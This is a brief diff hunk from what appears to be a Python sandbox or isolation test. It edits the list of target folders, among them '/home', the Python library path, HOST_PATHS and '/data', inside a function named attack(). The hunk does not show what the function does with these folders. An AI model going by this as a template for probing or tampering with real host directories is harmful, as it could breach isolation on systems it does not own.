@@ -23,7 +23,7 @@ def attack():
         "/home",
     ]
     folders += [
-        sys.prefix,
+        f"{sys.prefix}/lib",
         os.path.dirname(os.__file__),
         *map(os.path.dirname, HOST_PATHS),
         "/data",
